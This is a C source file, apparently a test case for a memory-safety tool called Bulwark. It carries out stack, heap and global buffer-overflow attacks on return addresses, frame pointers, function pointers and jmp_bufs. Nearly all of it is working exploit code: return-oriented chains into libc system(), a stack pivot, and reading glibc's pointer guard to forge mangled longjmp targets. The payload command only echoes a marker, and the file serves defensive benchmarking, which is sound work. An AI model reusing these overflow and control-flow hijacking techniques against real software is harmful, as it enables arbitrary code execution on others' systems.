/*
 * attack.c — one overflow attack, chosen at build time (see
 * attack_common.h for BW_WHERE / BW_HOW / BW_TO) plus
 *   BW_TARGET 1 return address, 2 saved frame pointer, 3 function pointer
 *             (local), 4 function pointer (parameter), 5 function pointer
 *             (struct member next to the buffer), 6 function pointer
 *             (global), 7 jmp_buf
 * Built plain it must print ATTACK-SUCCEEDED; built with Bulwark the
 * runner expects it stopped (or listed in known-gaps.txt with the reason).
 */
#define _GNU_SOURCE
#include <setjmp.h>
#include <stddef.h>

#include "attack_common.h"

#define TG_RET 1
#define TG_SAVEDFP 2
#define TG_FPLOCAL 3
#define TG_FPPARAM 4
#define TG_FPSTRUCT 5
#define TG_FPGLOBAL 6
#define TG_JMPBUF 7


static int greet(const char *s)
{
    printf("hello %.8s\n", s);
    return 0;
}

#if BW_TARGET == TG_RET
__attribute__((noinline)) static void vuln(void)
{
    char buf[64];
    off = (size_t)((char *)__builtin_frame_address(0) + 8 - buf);
    if (BW_TO == T_LIBC) {
        fill_cmd(off);
        put_addr(off, (uintptr_t)bw_pop_rdi);
        put_addr(off + 8, (uintptr_t)pl); /* the command: buf itself is clobbered by system()'s frames */
        put_addr(off + 16, (uintptr_t)bw_ret);
        put_addr(off + 24, libc_system());
        finish_binary(off + 32);
    } else {
        memset(pl, 'A', off);
        finish_with_addr(off, BW_TO == T_CODE ? injected_code() : (uintptr_t)bw_gadget);
    }
    prepare_file();
    OVERFLOW(buf);
}
static void run(void) { vuln(); }

#elif BW_TARGET == TG_SAVEDFP
static _Alignas(16) char fakeframe[1024];
static const char cmd[] = "echo ATTACK-SUCCEEDED";
static volatile uintptr_t frame;

__attribute__((noinline)) static void vuln(void)
{
    char buf[64];
    off = (size_t)((char *)__builtin_frame_address(0) - buf);
    memset(pl, 'A', off);
    finish_with_addr(off, frame);
    prepare_file();
    OVERFLOW(buf);
}

__attribute__((noinline)) static void run(void)
{
    int (*volatile cb)(const char *) = greet;
    const char *volatile arg = "caller";
    char *fa = __builtin_frame_address(0);
    size_t x_cb = (size_t)(fa - (char *)&cb), x_arg = (size_t)(fa - (char *)&arg);
    if (x_cb > 512 || x_arg > 512)
        na("caller's locals are not frame-pointer relative");
    char *f = fakeframe + 768;
    frame = (uintptr_t)f;
    uintptr_t t = BW_TO == T_LIBC ? libc_system() : redirect_target();
    memcpy(f - x_cb, &t, 8);
    uintptr_t a = (uintptr_t)cmd;
    memcpy(f - x_arg, &a, 8);
    vuln();
    cb(arg);
}

#elif BW_TARGET == TG_FPLOCAL
__attribute__((noinline)) static void run(void)
{
    int (*volatile fp)(const char *) = greet;
    char buf[64];
    if ((char *)&fp < buf + sizeof buf || (char *)&fp > buf + 512)
        na("the compiler put the pointer below the buffer");
    off = (size_t)((char *)&fp - buf);
    fill_cmd(off);
    finish_with_addr(off, redirect_target());
    prepare_file();
    OVERFLOW(buf);
    fp(buf);
}

#elif BW_TARGET == TG_FPPARAM
__attribute__((noinline)) static void vuln(int (*fp)(const char *))
{
    char buf[64];
    if ((char *)&fp < buf + sizeof buf || (char *)&fp > buf + 512)
        na("the compiler put the parameter below the buffer");
    off = (size_t)((char *)&fp - buf);
    fill_cmd(off);
    finish_with_addr(off, redirect_target());
    prepare_file();
    OVERFLOW(buf);
    fp(buf);
}
static void run(void) { vuln(greet); }

#elif BW_TARGET == TG_FPSTRUCT
struct victim {
    char buf[64];
    int (*fp)(const char *);
};
#if BW_WHERE == W_BSS
static struct victim gv;
#elif BW_WHERE == W_DATA
static struct victim gv = { "data", greet };
#endif

__attribute__((noinline)) static void run(void)
{
#if BW_WHERE == W_STACK
    struct victim sv;
    struct victim *v = &sv;
#elif BW_WHERE == W_HEAP
    struct victim *v = malloc(sizeof *v);
#else
    struct victim *v = &gv;
#endif
    v->fp = greet;
    off = offsetof(struct victim, fp);
    fill_cmd(off);
    finish_with_addr(off, redirect_target());
    prepare_file();
    OVERFLOW(v->buf);
    v->fp(v->buf);
}

#elif BW_TARGET == TG_FPGLOBAL
/* The compiler decides the order of globals; with two buffers and two
 * pointers, some pointer lies just after some buffer.  Run time picks it. */
typedef int (*greet_fn)(const char *);
#if BW_WHERE == W_BSS
static char gbuf_a[64];
static greet_fn gfp_a;
static char gbuf_b[64];
static greet_fn gfp_b;
#else
static char gbuf_a[64] = "data";
static greet_fn gfp_a = greet;
static char gbuf_b[64] = "data";
static greet_fn gfp_b = greet;
#endif
__attribute__((noinline)) static void run(void)
{
    char *bufs[2] = { gbuf_a, gbuf_b };
    greet_fn *ptrs[2] = { &gfp_a, &gfp_b };
    char *gbuf = NULL;
    greet_fn *gfp = NULL;
    for (int i = 0; i < 2; i++)
        for (int j = 0; j < 2; j++)
            if ((char *)ptrs[j] >= bufs[i] + 64 && (char *)ptrs[j] <= bufs[i] + 512 &&
                (!gfp || (char *)ptrs[j] - bufs[i] < (char *)gfp - gbuf)) {
                gbuf = bufs[i];
                gfp = ptrs[j];
            }
    if (!gfp)
        na("the linker put no pointer after a buffer");
    gfp_a = gfp_b = greet;
    off = (size_t)((char *)gfp - gbuf);
    fill_cmd(off);
    finish_with_addr(off, redirect_target());
    prepare_file();
    if (gbuf == gbuf_a)
        OVERFLOW(gbuf_a);
    else
        OVERFLOW(gbuf_b);
    (*gfp)(gbuf);
}

#elif BW_TARGET == TG_JMPBUF
struct jv {
    char buf[64];
    jmp_buf jb;
};
#if BW_WHERE == W_BSS
static struct jv gj;
#elif BW_WHERE == W_DATA
static struct jv gj = { "data", { { { 0 }, 0, { { 0 } } } } };
#endif

static char pivot[1 << 16];

static uintptr_t mangle(uintptr_t a)
{
    uintptr_t guard; /* glibc's pointer guard, leaked */
    __asm__("mov %%fs:0x30, %0" : "=r"(guard));
    a ^= guard;
    return (a << 17) | (a >> 47);
}

__attribute__((noinline)) static void run(void)
{
#if BW_WHERE == W_STACK
    struct jv sj;
    struct jv *volatile v = &sj;
#elif BW_WHERE == W_HEAP
    struct jv *volatile v = malloc(sizeof(struct jv));
#else
    struct jv *volatile v = &gj;
#endif
    if (setjmp(v->jb) == 0) {
        off = offsetof(struct jv, jb);
        memset(pl, 'A', off);
        memcpy(pl + off, v->jb, 64);
        if (BW_TO == T_LIBC)
            memcpy(pl + off, CMD, sizeof CMD); /* rdi points at the jmp_buf */
        if (BW_TO == T_LIBC) {
            /* Stack pivot: longjmp "returns" through `ret` onto a chain in
             * .bss holding system(); rdi still points at the jmp_buf. */
            uintptr_t top = ((uintptr_t)(pivot + sizeof pivot - 64)) & ~(uintptr_t)15;
            uintptr_t sys = libc_system();
            memcpy((void *)top, &sys, 8);
            put_addr(off + 48, mangle(top));
            put_addr(off + 56, mangle((uintptr_t)bw_ret));
        } else {
            put_addr(off + 56, mangle(redirect_target()));
        }
        finish_binary(off + 64);
        prepare_file();
        OVERFLOW(v->buf);
        longjmp(v->jb, 1);
    }
    puts("longjmp came back normally");
}
#else
#error "BW_TARGET"
#endif

int main(void)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    run();
    puts("attack did not take control");
    return 0;
}
